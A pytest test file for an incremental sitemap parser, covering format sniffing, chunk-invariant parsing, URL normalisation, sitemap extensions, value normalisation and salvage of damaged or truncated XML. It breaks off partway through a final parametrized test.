"""The pure incremental sitemap parser (§1 kinds and entries, §2.6 sniffing, §4 parsing rules).

No network and no I/O: every case is a byte string. Every document case goes through `parse_all`,
which parses it whole (`parse_document`) and again fed in 1-, 7- and 64-byte chunks (draining with
`take()` after every chunk) and requires identical results — the walker feeds network chunks of any
size, so a result that depends on where the chunks fall is a bug.
"""

from __future__ import annotations

import re
import resource
import string
import time
from dataclasses import dataclass

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sitescout._models import Alternate, Entry, Image, Malformed, News, Video
from sitescout._parse import SitemapParser, parse_document

DOC = "https://x.com/sitemaps/pages.xml"
SM_NS = "http://www.sitemaps.org/schemas/sitemap/0.9"
CHUNK_SIZES = (1, 7, 64)
KINDS = {"urlset", "sitemapindex", "rss", "atom", "text", "not-a-sitemap"}
PROPERTY = settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])


# --------------------------------------------------------------------------- helpers


@dataclass(frozen=True)
class Result:
    kind: str | None
    entries: list[Entry]
    sitemaps: list[str]
    malformed: list[Malformed]
    notes: list[str]
    errors: list[str]

    @property
    def urls(self) -> list[str]:
        return [e.url for e in self.entries]


def parse_whole(data: bytes, url: str = DOC, depth: int = 1) -> Result:
    p = parse_document(data, url, depth=depth)
    return Result(p.kind, p.entries, p.sitemaps, p.malformed, p.notes, p.errors)


def parse_chunked(data: bytes, sizes: int | list[int], url: str = DOC, depth: int = 1) -> Result:
    """Feed `data` in chunks (`sizes` cycles), draining with take() after every chunk."""
    cycle = [sizes] if isinstance(sizes, int) else sizes
    p = SitemapParser(url, depth=depth)
    entries: list[Entry] = []
    sitemaps: list[str] = []
    malformed: list[Malformed] = []
    pos = k = 0
    while pos < len(data):
        size = cycle[k % len(cycle)]
        p.feed(data[pos : pos + size])
        pos, k = pos + size, k + 1
        e, s, m = p.take()
        entries += e
        sitemaps += s
        malformed += m
    p.close()
    e, s, m = p.take()
    return Result(p.kind, entries + e, sitemaps + s, malformed + m, p.notes, p.errors)


def assert_same(whole: Result, chunked: Result, label: str) -> None:
    for field in ("kind", "urls", "entries", "sitemaps", "malformed", "notes", "errors"):
        got, want = getattr(chunked, field), getattr(whole, field)
        assert got == want, f"{label}: {field} differs from the whole-document parse"


def parse_all(data: bytes, url: str = DOC, depth: int = 1) -> Result:
    """Parse whole and in 1/7/64-byte chunks; all must agree. Returns the whole-document result."""
    whole = parse_whole(data, url, depth)
    for size in CHUNK_SIZES:
        assert_same(whole, parse_chunked(data, size, url, depth), f"{size}-byte chunks")
    return whole


# The parser buffers the first KiB to sniff the kind, so a document shorter than that reaches
# libxml2 in one piece whatever the chunk size. PAD (a comment inside the root element, which the
# parser drops) pushes the interesting part past that window so small chunks really are small.
PAD = "<!-- " + "padding " * 140 + "-->"


def urlset(
    body: str,
    root: str = f'<urlset xmlns="{SM_NS}">',
    close: str = "</urlset>",
    *,
    pad: bool = True,
) -> bytes:
    padding = PAD if pad else ""
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n{root}{padding}\n{body}\n{close}').encode()


def url_el(loc: str, extra: str = "") -> str:
    return f"<url><loc>{loc}</loc>{extra}</url>"


def many_urls(n: int, start: int = 0) -> str:
    return "".join(url_el(f"https://x.com/p{i}") for i in range(start, start + n))


# --------------------------------------------------------------------------- kinds (§1, §2.6)

RSS = (
    b"""<?xml version="1.0"?>
<rss version="2.0"><channel><title>Blog</title><link>https://x.com/</link>
"""
    + PAD.encode()
    + b"""
<item><title>A</title><link>https://x.com/a</link>
  <pubDate>Wed, 01 May 2024 10:00:00 GMT</pubDate></item>
<item><link> /b </link><pubDate>Wed, 01 May 2024 10:00:00 +0200</pubDate></item>
<item><guid>https://x.com/g</guid></item>
<item><link>https://x.com/d</link><pubDate>not a date</pubDate></item>
</channel></rss>"""
)

ATOM = (
    b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title>"""
    + PAD.encode()
    + b"""
<link href="https://x.com/" rel="self"/>
<entry><link rel="alternate" type="text/html" href="https://x.com/a"/>
  <updated>2024-05-01T10:00:00Z</updated></entry>
<entry><link href="/b"/><updated>2024-05-01</updated></entry>
<entry><link rel="self" href="https://x.com/self"/><link rel="edit" href="https://x.com/e"/>
  <link href="c"/></entry>
</feed>"""
)

KIND_CASES = [
    pytest.param(
        urlset(url_el("https://x.com/a") + url_el("https://x.com/b")),
        "urlset",
        ["https://x.com/a", "https://x.com/b"],
        [],
        id="urlset-default-ns",
    ),
    pytest.param(
        urlset(
            "<sm:url><sm:loc>https://x.com/a</sm:loc></sm:url>",
            root=f'<sm:urlset xmlns:sm="{SM_NS}">',
            close="</sm:urlset>",
        ),
        "urlset",
        ["https://x.com/a"],
        [],
        id="urlset-prefixed-ns",
    ),
    pytest.param(
        b"<urlset><url><loc>https://x.com/a</loc></url></urlset>",
        "urlset",
        ["https://x.com/a"],
        [],
        id="urlset-no-ns",
    ),
    pytest.param(
        urlset(url_el("https://x.com/a"), root='<urlset xmlns="http://example.org/wrong">'),
        "urlset",
        ["https://x.com/a"],
        [],
        id="urlset-wrong-ns",
    ),
    pytest.param(b"<urlset/>", "urlset", [], [], id="urlset-empty"),
    pytest.param(
        f"""<?xml version="1.0"?><sitemapindex xmlns="{SM_NS}">
        <sitemap><loc>https://x.com/s1.xml</loc><lastmod>2024</lastmod></sitemap>
        <sitemap><loc>s2.xml</loc></sitemap>
        <sitemap><loc><![CDATA[ /s3.xml ]]></loc></sitemap></sitemapindex>""".encode(),
        "sitemapindex",
        [],
        ["https://x.com/s1.xml", "https://x.com/sitemaps/s2.xml", "https://x.com/s3.xml"],
        id="sitemapindex",
    ),
    pytest.param(
        b'<i:sitemapindex xmlns:i="urn:x"><i:sitemap><i:loc>https://x.com/s.xml</i:loc>'
        b"</i:sitemap></i:sitemapindex>",
        "sitemapindex",
        [],
        ["https://x.com/s.xml"],
        id="sitemapindex-prefixed",
    ),
    pytest.param(
        RSS,
        "rss",
        ["https://x.com/a", "https://x.com/b", "https://x.com/g", "https://x.com/d"],
        [],
        id="rss",
    ),
    pytest.param(
        ATOM,
        "atom",
        ["https://x.com/a", "https://x.com/b", "https://x.com/sitemaps/c"],
        [],
        id="atom",
    ),
    pytest.param(
        b"https://x.com/a\nhttps://x.com/b\n",
        "text",
        ["https://x.com/a", "https://x.com/b"],
        [],
        id="text",
    ),
    pytest.param(
        b"\xef\xbb\xbf\r\n  https://x.com/a\r\n\r\n\n   \nHTTPS://X.com/b  \r\nhttps://x.com/c",
        "text",
        ["https://x.com/a", "https://x.com/b", "https://x.com/c"],
        [],
        id="text-bom-crlf-blank-lines-no-final-newline",
    ),
    pytest.param(
        b'\xef\xbb\xbf \r\n\t <?xml version="1.0" encoding="UTF-8"?>\n'
        b'<?xml-stylesheet type="text/xsl" href="/main-sitemap.xsl"?>\n<!-- generator: x -->\n'
        b"<urlset><url><loc>https://x.com/a</loc></url></urlset>",
        "urlset",
        ["https://x.com/a"],
        [],
        id="bom-whitespace-xml-decl-stylesheet-comment",
    ),
]


@pytest.mark.parametrize(("data", "kind", "urls", "sitemaps"), KIND_CASES)
def test_document_kinds(data: bytes, kind: str, urls: list[str], sitemaps: list[str]) -> None:
    r = parse_all(data)
    assert r.kind == kind
    assert r.urls == urls
    assert r.sitemaps == sitemaps
    assert r.malformed == []
    assert r.errors == []


def test_sitemapindex_children_are_not_entries() -> None:
    p = parse_document(
        b"<sitemapindex><sitemap><loc>https://x.com/a.xml</loc></sitemap></sitemapindex>", DOC
    )
    assert p.is_sitemap
    assert p.take() == ([], ["https://x.com/a.xml"], [])


def test_rss_pubdate_becomes_iso_lastmod() -> None:
    r = parse_all(RSS)
    assert [e.lastmod for e in r.entries] == [
        "2024-05-01T10:00:00+00:00",
        "2024-05-01T10:00:00+02:00",
        None,
        "not a date",  # unparseable: raw kept (§1)
    ]
    # The channel's own <link> is not an entry.
    assert "https://x.com/" not in r.urls


def test_rss_item_without_link_is_malformed() -> None:
    r = parse_all(
        b'<rss version="2.0"><channel><item><title>t</title></item>'
        b'<item><guid isPermaLink="false">post-1</guid></item>'
        b"<item><link>https://x.com/ok</link></item></channel></rss>"
    )
    assert r.urls == ["https://x.com/ok"]
    assert [(m.raw, m.sitemap) for m in r.malformed] == [("", DOC), ("", DOC)]
    assert all(m.reason for m in r.malformed)


def test_atom_updated_and_link_choice() -> None:
    r = parse_all(ATOM)
    assert [e.lastmod for e in r.entries] == ["2024-05-01T10:00:00+00:00", "2024-05-01", None]
    assert "https://x.com/self" not in r.urls
    assert "https://x.com/e" not in r.urls
    assert "https://x.com/" not in r.urls  # the feed's own link


def test_atom_entry_with_only_self_link_is_malformed() -> None:
    r = parse_all(
        b'<feed xmlns="http://www.w3.org/2005/Atom"><entry><link rel="self" href="https://x.com/s"/>'
        b'</entry><entry><link href="https://x.com/ok"/></entry></feed>'
    )
    assert r.urls == ["https://x.com/ok"]
    assert [m.raw for m in r.malformed] == [""]


def test_atom_updated_wins_over_published() -> None:
    r = parse_all(
        b'<feed xmlns="http://www.w3.org/2005/Atom"><entry><link href="https://x.com/a"/>'
        b"<published>2020-01-01T00:00:00Z</published><updated>2024-05-01T00:00:00Z</updated>"
        b"</entry></feed>"
    )
    assert r.entries[0].lastmod == "2024-05-01T00:00:00+00:00"


def test_text_sitemap_non_url_lines_are_malformed() -> None:
    r = parse_all(
        b"https://x.com/a\n\nnot a url\n/relative\nftp://x.com/f\nhttps://exa mple.com/\n"
        b"https://x.com/b\n"
    )
    assert r.kind == "text"
    assert r.urls == ["https://x.com/a", "https://x.com/b"]
    assert [m.raw for m in r.malformed] == [
        "not a url",
        "/relative",
        "ftp://x.com/f",
        "https://exa mple.com/",
    ]
    assert all(m.reason and m.sitemap == DOC for m in r.malformed)


LONG_HTML = (
    b"<!DOCTYPE html>\n<html><head><title>Not found</title></head><body>"
    + (b"<p>Sorry, nothing here.</p>" * 200)
    + b"</body></html>"
)

NOT_A_SITEMAP = [
    pytest.param(b"<!doctype html><html><body>404</body></html>", "HTML", id="html-doctype"),
    pytest.param(LONG_HTML, "HTML", id="html-doctype-long"),
    pytest.param(b"<html><head></head><body>soft 404</body></html>", "HTML", id="html"),
    pytest.param(b"\xef\xbb\xbf \n <HTML><body>x</body></HTML>", "HTML", id="html-bom-upper"),
    pytest.param(
        b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>',
        "HTML",
        id="xhtml",
    ),
    pytest.param(b"", "empty", id="empty-body"),
    pytest.param(b" \r\n\t \n", "empty", id="whitespace-only"),
    pytest.param(b"\xef\xbb\xbf", "empty", id="bom-only"),
    pytest.param(b"\xef\xbb\xbf\n" + b" " * 5000, "empty", id="long-whitespace"),
    pytest.param(b"<foo><loc>https://x.com/a</loc></foo>", "<foo>", id="unknown-root"),
    pytest.param(b'<?xml version="1.0"?>', "no root", id="xml-declaration-only"),
    pytest.param(b"hello world\nhttps://x.com/a\n", "not XML", id="plain-text"),
    pytest.param(b"/a\n/b\n", "not XML", id="relative-paths-text"),
    pytest.param(b'{"urls": ["https://x.com/a"]}', "not XML", id="json"),
]


@pytest.mark.parametrize(("data", "why"), NOT_A_SITEMAP)
def test_not_a_sitemap(data: bytes, why: str) -> None:
    r = parse_all(data)
    assert r.kind == "not-a-sitemap"
    assert r.entries == [] and r.sitemaps == []
    assert any(n.startswith("not a sitemap") and why in n for n in r.notes), r.notes
    p = parse_document(data, DOC)
    assert not p.is_sitemap


# --------------------------------------------------------------------------- XML tolerance (§4)

TOLERANCE = [
    # In 1-byte chunks the section arrives cut anywhere, '<![CDA' included: its '&' stays literal.
    pytest.param(
        "<![CDATA[https://x.com/a?b=1&c=2]]>", "https://x.com/a?b=1&c=2", id="cdata-with-amp"
    ),
    pytest.param("<![CDATA[  https://x.com/a  ]]>", "https://x.com/a", id="cdata-whitespace"),
    pytest.param("https://x.com/q?a=1&amp;b=2", "https://x.com/q?a=1&b=2", id="amp-escaped"),
    pytest.param("\n    https://x.com/a\n  ", "https://x.com/a", id="newlines-around"),
    pytest.param("\t https://x.com/a \t", "https://x.com/a", id="tabs-around"),
    pytest.param("https://x.com&#47;a&#x2F;b", "https://x.com/a/b", id="numeric-char-refs"),
    pytest.param("https://x.com/<!-- c -->a", "https://x.com/a", id="comment-inside-loc"),
    pytest.param("HTTPS://X.COM:443/A", "https://x.com/A", id="normalized"),
    pytest.param("https://x.com/a?utm_source=n&amp;id=1", "https://x.com/a?id=1", id="tracking"),
    pytest.param("https://x.com/café", "https://x.com/caf%C3%A9", id="non-ascii"),
]


@pytest.mark.parametrize(("loc", "expected"), TOLERANCE)
def test_loc_tolerance(loc: str, expected: str) -> None:
    r = parse_all(urlset(url_el("https://x.com/first") + url_el(loc) + url_el("https://x.com/z")))
    assert r.urls == ["https://x.com/first", expected, "https://x.com/z"]
    assert r.malformed == [] and r.errors == []


def test_comments_and_pis_between_elements() -> None:
    r = parse_all(
        urlset(
            "<!-- a -->" + "<url><!-- b --><loc>https://x.com/a</loc><!-- c --></url>"
            "<?pi x?><!-- d -->" + url_el("https://x.com/b") + "<!-- e -->"
        )
    )
    assert r.urls == ["https://x.com/a", "https://x.com/b"]
    assert r.errors == []


def test_latin1_declared_encoding() -> None:
    data = (
        '<?xml version="1.0" encoding="ISO-8859-1"?>'
        "<urlset><url><loc>https://x.com/café</loc></url></urlset>"
    ).encode("latin-1")
    assert parse_all(data).urls == ["https://x.com/caf%C3%A9"]


def test_control_characters_dropped() -> None:
    r = parse_all(urlset(url_el("https://x.com/a\x01\x02b") + url_el("https://x.com/c")))
    assert r.urls == ["https://x.com/ab", "https://x.com/c"]


# --------------------------------------------------------------------------- relative locs (§4)

RELATIVE = [
    pytest.param("/post/x/", "https://x.com/post/x/", id="root-relative"),
    pytest.param("post/y/", "https://x.com/sitemaps/post/y/", id="document-relative"),
    pytest.param("./post/z", "https://x.com/sitemaps/post/z", id="dot-relative"),
    pytest.param("../top/", "https://x.com/top/", id="parent-relative"),
    pytest.param("//cdn.x.com/a", "https://cdn.x.com/a", id="scheme-relative"),
    pytest.param("?page=1", "https://x.com/sitemaps/pages.xml?page=1", id="query-only"),
]


@pytest.mark.parametrize(("loc", "expected"), RELATIVE)
def test_relative_loc_resolves_against_document_url(loc: str, expected: str) -> None:
    r = parse_all(urlset(url_el(loc)))
    assert r.urls == [expected]
    assert r.entries[0].sitemap == DOC


def test_relative_resolution_uses_each_documents_url() -> None:
    data = urlset(url_el("/post/x/") + url_el("post/y/"))
    r = parse_all(data, url="https://x.com/a/b/sitemap.xml")
    assert r.urls == ["https://x.com/post/x/", "https://x.com/a/b/post/y/"]


@pytest.mark.parametrize(
    ("data", "kind", "expected"),
    [
        pytest.param(
            b"<sitemapindex><sitemap><loc>/post-sitemap.xml</loc></sitemap>"
            b"<sitemap><loc>child.xml</loc></sitemap></sitemapindex>",
            "sitemapindex",
            ["https://x.com/post-sitemap.xml", "https://x.com/sitemaps/child.xml"],
            id="sitemapindex",
        ),
        pytest.param(
            b"<rss><channel><item><link>post/y/</link></item></channel></rss>",
            "rss",
            ["https://x.com/sitemaps/post/y/"],
            id="rss",
        ),
        pytest.param(
            b'<feed><entry><link href="post/y/"/></entry></feed>',
            "atom",
            ["https://x.com/sitemaps/post/y/"],
            id="atom",
        ),
    ],
)
def test_relative_links_in_other_kinds(data: bytes, kind: str, expected: list[str]) -> None:
    r = parse_all(data)
    assert r.kind == kind
    assert (r.sitemaps if kind == "sitemapindex" else r.urls) == expected


UNRESOLVABLE = [
    pytest.param("<loc>mailto:a@b</loc>", "mailto:a@b", id="mailto"),
    pytest.param("<loc>javascript:x</loc>", "javascript:x", id="javascript"),
    pytest.param("<loc>tel:+123</loc>", "tel:+123", id="tel"),
    pytest.param("<loc>ftp://x.com/f</loc>", "ftp://x.com/f", id="ftp"),
    pytest.param("<loc>#top</loc>", "#top", id="fragment-only"),
    pytest.param("<loc>https://exa mple.com/</loc>", "https://exa mple.com/", id="space-in-host"),
    pytest.param("<loc>https://x.com:99999/</loc>", "https://x.com:99999/", id="bad-port"),
    pytest.param("<loc>http://</loc>", "http://", id="no-host"),
    pytest.param("<loc></loc>", "", id="empty-loc"),
    pytest.param("<loc/>", "", id="self-closed-loc"),
    pytest.param("<loc>   \n  </loc>", "", id="whitespace-loc"),
    pytest.param("<lastmod>2024</lastmod>", "", id="missing-loc"),
]


@pytest.mark.parametrize(("inner", "raw"), UNRESOLVABLE)
def test_unresolvable_loc_is_malformed_and_others_kept(inner: str, raw: str) -> None:
    r = parse_all(
        urlset(
            url_el("https://x.com/before") + f"<url>{inner}</url>" + url_el("https://x.com/after")
        )
    )
    assert r.urls == ["https://x.com/before", "https://x.com/after"]
    assert len(r.malformed) == 1
    m = r.malformed[0]
    assert (m.raw, m.sitemap) == (raw, DOC)
    assert m.reason


def test_unresolvable_child_sitemap_is_malformed() -> None:
    r = parse_all(
        b"<sitemapindex><sitemap><loc>mailto:x@y</loc></sitemap>"
        b"<sitemap><loc>https://x.com/ok.xml</loc></sitemap><sitemap/></sitemapindex>"
    )
    assert r.sitemaps == ["https://x.com/ok.xml"]
    assert [m.raw for m in r.malformed] == ["mailto:x@y", ""]


# --------------------------------------------------------------------------- extensions (§4)

EXT_ROOT = (
    f'<urlset xmlns="{SM_NS}" xmlns:xhtml="http://www.w3.org/1999/xhtml"'
    ' xmlns:image="http://www.google.com/schemas/sitemap-image/1.1"'
    ' xmlns:video="http://www.google.com/schemas/sitemap-video/1.1"'
    ' xmlns:news="http://www.google.com/schemas/sitemap-news/0.9">'
)

EXTENSIONS = [
    pytest.param(
        """<url><loc>https://x.com/page</loc>
        <xhtml:link rel="alternate" hreflang="de" href="/de/page"/>
        <xhtml:link rel="alternate" hreflang="fr-CA" href="fr/page"/>
        <xhtml:link rel="alternate" hreflang="x-default" href="https://x.com/page"/>
        <xhtml:link rel="canonical" hreflang="es" href="https://x.com/es/page"/>
        <xhtml:link rel="alternate" href="https://x.com/no-hreflang"/>
        </url>""",
        Entry(
            "https://x.com/page",
            alternates=(
                Alternate("de", "https://x.com/de/page"),
                Alternate("fr-CA", "https://x.com/sitemaps/fr/page"),
                Alternate("x-default", "https://x.com/page"),
            ),
            sitemap=DOC,
        ),
        id="hreflang-alternates",
    ),
    pytest.param(
        """<url>
        <image:image><image:loc>https://cdn.x.com/a.png</image:loc>
          <image:title>Title</image:title><image:caption>Caption</image:caption></image:image>
        <loc>https://x.com/page</loc>
        <image:image><image:loc>img/b.jpg</image:loc></image:image>
        </url>""",
        Entry(
            "https://x.com/page",
            images=(
                Image("https://cdn.x.com/a.png", "Title", "Caption"),
                Image("https://x.com/sitemaps/img/b.jpg"),
            ),
            sitemap=DOC,
        ),
        id="images-before-and-after-loc",
    ),
    pytest.param(
        """<url><loc>https://x.com/watch</loc><video:video>
          <video:thumbnail_loc>https://x.com/t.jpg</video:thumbnail_loc>
          <video:title>Grilling steaks</video:title>
          <video:description>How to grill</video:description>
          <video:content_loc>https://x.com/v.mp4</video:content_loc>
          <video:player_loc>https://x.com/player?v=1</video:player_loc>
          <video:duration>600</video:duration>
        </video:video></url>""",
        Entry(
            "https://x.com/watch",
            videos=(
                Video(
                    content_loc="https://x.com/v.mp4",
                    player_loc="https://x.com/player?v=1",
                    thumbnail_loc="https://x.com/t.jpg",
                    title="Grilling steaks",
                    description="How to grill",
                ),
            ),
            sitemap=DOC,
        ),
        id="video",
    ),
    pytest.param(
        """<url><loc>https://x.com/news/1</loc><news:news>
          <news:publication><news:name>The Paper</news:name>
            <news:language>en</news:language></news:publication>
          <news:publication_date>2024-05-01T10:00Z</news:publication_date>
          <news:title>Headline</news:title>
        </news:news></url>""",
        Entry(
            "https://x.com/news/1",
            news=News("Headline", "2024-05-01T10:00:00+00:00", "en", "The Paper"),
            sitemap=DOC,
        ),
        id="news",
    ),
    pytest.param(
        """<url><loc>https://x.com/all</loc><lastmod>2024-05-01T10:00:00+0200</lastmod>
        <changefreq>Weekly</changefreq><priority>0.8</priority>
        <xhtml:link rel="alternate" hreflang="de" href="https://x.com/de/all"/>
        <image:image><image:loc>https://x.com/i.png</image:loc></image:image>
        <news:news><news:title>T</news:title></news:news></url>""",
        Entry(
            "https://x.com/all",
            lastmod="2024-05-01T10:00:00+02:00",
            priority=0.8,
            changefreq="weekly",
            alternates=(Alternate("de", "https://x.com/de/all"),),
            images=(Image("https://x.com/i.png"),),
            news=News(title="T"),
            sitemap=DOC,
        ),
        id="everything",
    ),
]


@pytest.mark.parametrize(("body", "expected"), EXTENSIONS)
def test_extensions(body: str, expected: Entry) -> None:
    r = parse_all(urlset(body, root=EXT_ROOT))
    assert r.entries == [expected]
    assert r.errors == []


def test_image_loc_is_not_the_page_loc() -> None:
    r = parse_all(
        urlset(
            "<url><image:image><image:loc>https://cdn.x.com/only.png</image:loc></image:image>"
            "</url>" + url_el("https://x.com/ok"),
            root=EXT_ROOT,
        )
    )
    assert r.urls == ["https://x.com/ok"]
    assert [m.raw for m in r.malformed] == [""]  # the url without its own <loc>


def test_unresolvable_alternate_is_dropped_entry_kept() -> None:
    r = parse_all(
        urlset(
            url_el(
                "https://x.com/a",
                '<xhtml:link rel="alternate" hreflang="de" href="mailto:x@y"/>',
            ),
            root=EXT_ROOT,
        )
    )
    assert r.urls == ["https://x.com/a"]
    assert r.entries[0].alternates == ()
    assert [m.raw for m in r.malformed] == ["mailto:x@y"]


# --------------------------------------------------------------------------- values (§1, §4)

LASTMOD = [
    pytest.param("2024", "2024", id="year"),
    pytest.param("2024-05", "2024-05", id="year-month"),
    pytest.param("2024-05-01", "2024-05-01", id="date"),
    pytest.param("2024-05-01T10:00Z", "2024-05-01T10:00:00+00:00", id="minutes-z"),
    pytest.param("2024-05-01T10:00+02:00", "2024-05-01T10:00:00+02:00", id="minutes-offset"),
    pytest.param("2024-05-01T10:00:00Z", "2024-05-01T10:00:00+00:00", id="seconds-z"),
    pytest.param("2024-05-01T10:00:00+0200", "2024-05-01T10:00:00+02:00", id="offset-no-colon"),
    pytest.param("2024-05-01T10:00:00-05:00", "2024-05-01T10:00:00-05:00", id="canonical"),
    pytest.param("2024-05-01T10:00:00.123Z", "2024-05-01T10:00:00.123+00:00", id="fraction-z"),
    pytest.param("2024-05-01T10:00:00.5+01:00", "2024-05-01T10:00:00.5+01:00", id="fraction"),
    pytest.param("2024-05-01 10:00:00", "2024-05-01T10:00:00", id="space-separator"),
    pytest.param("  2024-05-01\n", "2024-05-01", id="whitespace"),
    pytest.param("garbage", "garbage", id="garbage-kept-raw"),
    pytest.param("01/05/2024", "01/05/2024", id="other-format-kept-raw"),
    pytest.param("", None, id="empty"),
]


@pytest.mark.parametrize(("raw", "expected"), LASTMOD)
def test_lastmod_normalization(raw: str, expected: str | None) -> None:
    r = parse_all(urlset(url_el("https://x.com/a", f"<lastmod>{raw}</lastmod>")))
    assert r.entries[0].lastmod == expected


@pytest.mark.parametrize(("raw", "expected"), LASTMOD[:10])
def test_news_publication_date_normalization(raw: str, expected: str) -> None:
    body = url_el(
        "https://x.com/a",
        f"<news:news><news:publication_date>{raw}</news:publication_date></news:news>",
    )
    news = parse_all(urlset(body, root=EXT_ROOT)).entries[0].news
    assert news is not None and news.publication_date == expected


PRIORITY = [
    pytest.param("0.5", 0.5, False, id="half"),
    pytest.param("0", 0.0, False, id="zero"),
    pytest.param("1", 1.0, False, id="one"),
    pytest.param("1.0", 1.0, False, id="one-point-zero"),
    pytest.param(" 0.8\n", 0.8, False, id="whitespace"),
    pytest.param("", None, False, id="empty-no-note"),
    pytest.param("2", None, True, id="above-one"),
    pytest.param("-1", None, True, id="negative"),
    pytest.param("1.01", None, True, id="just-above"),
    pytest.param("abc", None, True, id="not-a-number"),
    pytest.param("nan", None, True, id="nan"),
    pytest.param("inf", None, True, id="inf"),
]


@pytest.mark.parametrize(("raw", "expected", "noted"), PRIORITY)
def test_priority(raw: str, expected: float | None, noted: bool) -> None:
    r = parse_all(urlset(url_el("https://x.com/a", f"<priority>{raw}</priority>")))
    assert r.urls == ["https://x.com/a"]  # a bad priority never drops the entry
    assert r.entries[0].priority == expected
    assert ("1 priority values outside 0-1 or not numbers" in r.notes) is noted
    assert r.malformed == [] and r.errors == []  # a note, not an error (§4)


def test_priority_notes_are_counted() -> None:
    body = "".join(
        url_el(f"https://x.com/{i}", f"<priority>{p}</priority>")
        for i, p in enumerate(["2", "0.3", "-1", "abc", "0.9"])
    )
    r = parse_all(urlset(body))
    assert [e.priority for e in r.entries] == [None, 0.3, None, None, 0.9]
    assert [n for n in r.notes if "priority" in n] == [
        "3 priority values outside 0-1 or not numbers"
    ]


CHANGEFREQ = [
    pytest.param("weekly", "weekly", False, id="weekly"),
    pytest.param("Weekly", "weekly", False, id="capitalized"),
    pytest.param(" DAILY\n", "daily", False, id="upper-whitespace"),
    pytest.param("always", "always", False, id="always"),
    pytest.param("never", "never", False, id="never"),
    pytest.param("", None, False, id="empty"),
    pytest.param("sometimes", None, True, id="unknown"),
    pytest.param("fortnightly", None, True, id="unknown-2"),
]


@pytest.mark.parametrize(("raw", "expected", "noted"), CHANGEFREQ)
def test_changefreq(raw: str, expected: str | None, noted: bool) -> None:
    r = parse_all(urlset(url_el("https://x.com/a", f"<changefreq>{raw}</changefreq>")))
    assert r.entries[0].changefreq == expected
    assert ("1 unknown changefreq values" in r.notes) is noted
    assert r.errors == []


# --------------------------------------------------------------------------- malformed XML (§4)

DAMAGED = [
    pytest.param(
        url_el("https://x.com/a")
        + "<url><loc>https://x.com/b < x</loc></url>"
        + url_el("https://x.com/c"),
        id="lt-inside-loc",
    ),
    pytest.param(
        url_el("https://x.com/a")
        + "<url><loc>https://x.com/b</lo></url>"
        + url_el("https://x.com/c"),
        id="mismatched-close-loc",
    ),
    pytest.param(
        url_el("https://x.com/a")
        + "<url><loc>https://x.com/b</loc></urlx>"
        + url_el("https://x.com/c"),
        id="mismatched-close-url",
    ),
    pytest.param(
        url_el("https://x.com/a") + "<url><loc>https://x.com/b</url>" + url_el("https://x.com/c"),
        id="missing-close-loc",
    ),
    pytest.param(
        url_el("https://x.com/a")
        + "<url><<loc>https://x.com/b</loc></url>"
        + url_el("https://x.com/c"),
        id="double-lt",
    ),
    pytest.param(
        url_el("https://x.com/a") + "</urlset>" + url_el("https://x.com/c"),
        id="premature-root-close",
    ),
    pytest.param(
        url_el("https://x.com/a") + "<!DOCTYPE x>" + url_el("https://x.com/c"),
        id="doctype-mid-document",
    ),
]


@pytest.mark.parametrize("body", DAMAGED)
def test_salvage_keeps_entries_before_and_after_damage(body: str) -> None:
    r = parse_whole(urlset(body))
    assert r.kind == "urlset"
    assert r.urls[0] == "https://x.com/a"  # before the damage, in order
    assert "https://x.com/c" in r.urls  # after the damage
    assert len(r.urls) == len(set(r.urls))  # the salvage never yields a URL twice
    assert r.errors  # the damage is recorded


@pytest.mark.parametrize("body", DAMAGED)
def test_salvage_is_the_same_in_small_chunks(body: str) -> None:
    """A <loc> split by a chunk boundary is still salvaged, and a <url> that recovery nests inside
    an unfinished one does not take that one's <loc> with it when the tree is pruned."""
    r = parse_all(urlset(body))
    assert r.urls[0] == "https://x.com/a" and "https://x.com/c" in r.urls


@pytest.mark.parametrize("body", DAMAGED)
def test_complete_damaged_document_is_not_reported_cut(body: str) -> None:
    """Recovery also ends items in close(); only a body that ends inside one was cut."""
    data = urlset(body)
    for r in (parse_whole(data), *(parse_chunked(data, n) for n in CHUNK_SIZES)):
        assert not any("cut" in m.reason for m in r.malformed)
        assert not any("ended inside" in e for e in r.errors)


@pytest.mark.parametrize(
    "damage", ["</urlset>", "<!DOCTYPE x>"], ids=["premature-root-close", "doctype"]
)
def test_salvage_is_chunk_invariant(damage: str) -> None:
    data = urlset(url_el("https://x.com/a") + damage + many_urls(40))
    r = parse_all(data)
    assert r.urls == ["https://x.com/a", *(f"https://x.com/p{i}" for i in range(40))]


def test_salvage_ignores_image_loc() -> None:
    body = (
        url_el(
            "https://x.com/a",
            "<image:image><image:loc>https://cdn.x.com/a.png</image:loc></image:image>",
        )
        + "<url><loc>https://x.com/b < x</loc></url>"
        + url_el(
            "https://x.com/c",
            "<image:image><image:loc>https://cdn.x.com/c.png</image:loc></image:image>",
        )
    )
    r = parse_all(urlset(body, root=EXT_ROOT))
    assert "https://x.com/c" in r.urls
    assert not [u for u in r.urls if "cdn.x.com" in u]


TRUNCATED_SHORT = urlset(
    url_el("https://x.com/a") + url_el("https://x.com/b") + "<url><loc>https://x.com/blog/some-po",
    close="",
    pad=False,
)
TRUNCATED_LONG = urlset(many_urls(100) + "<url><loc>https://x.com/blog/some-po", close="")


@pytest.mark.parametrize(
    ("data", "complete"),
    [
        pytest.param(TRUNCATED_SHORT, ["https://x.com/a", "https://x.com/b"], id="short"),
        pytest.param(TRUNCATED_LONG, [f"https://x.com/p{i}" for i in range(100)], id="long"),
        pytest.param(
            urlset(url_el("https://x.com/a") + url_el("https://x.com/b"), close=""),
            ["https://x.com/a", "https://x.com/b"],
            id="cut-between-entries",
        ),
    ],
)
def test_truncated_document_keeps_complete_entries(data: bytes, complete: list[str]) -> None:
    r = parse_all(data)
    assert r.kind == "urlset"
    assert r.urls[: len(complete)] == complete
    assert r.errors  # the cut is recorded


@pytest.mark.parametrize("data", [TRUNCATED_SHORT, TRUNCATED_LONG], ids=["short", "long"])
def test_truncated_entry_is_not_yielded(data: bytes) -> None:
    r = parse_all(data)
    assert "https://x.com/blog/some-po" not in r.urls


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(
            urlset(url_el("https://x.com/q?a=1&b=2") + url_el("https://x.com/c")), id="loc"
        ),
        pytest.param(
            b"<rss><channel><item><link>https://x.com/q?a=1&b=2</link></item>"
